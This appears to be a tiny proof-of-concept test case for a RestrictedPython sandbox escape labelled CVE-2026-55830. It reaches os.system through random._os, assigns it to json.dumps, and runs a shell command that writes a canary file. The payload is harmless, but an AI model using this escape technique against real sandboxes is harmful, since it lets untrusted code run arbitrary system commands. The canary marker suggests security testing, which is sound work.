# source: RestrictedPython CVE-2026-55830
# effect: process

import json
import random

json.dumps = random._os.system
json.dumps("echo targets/poisoned_library > /tmp/canary/process")
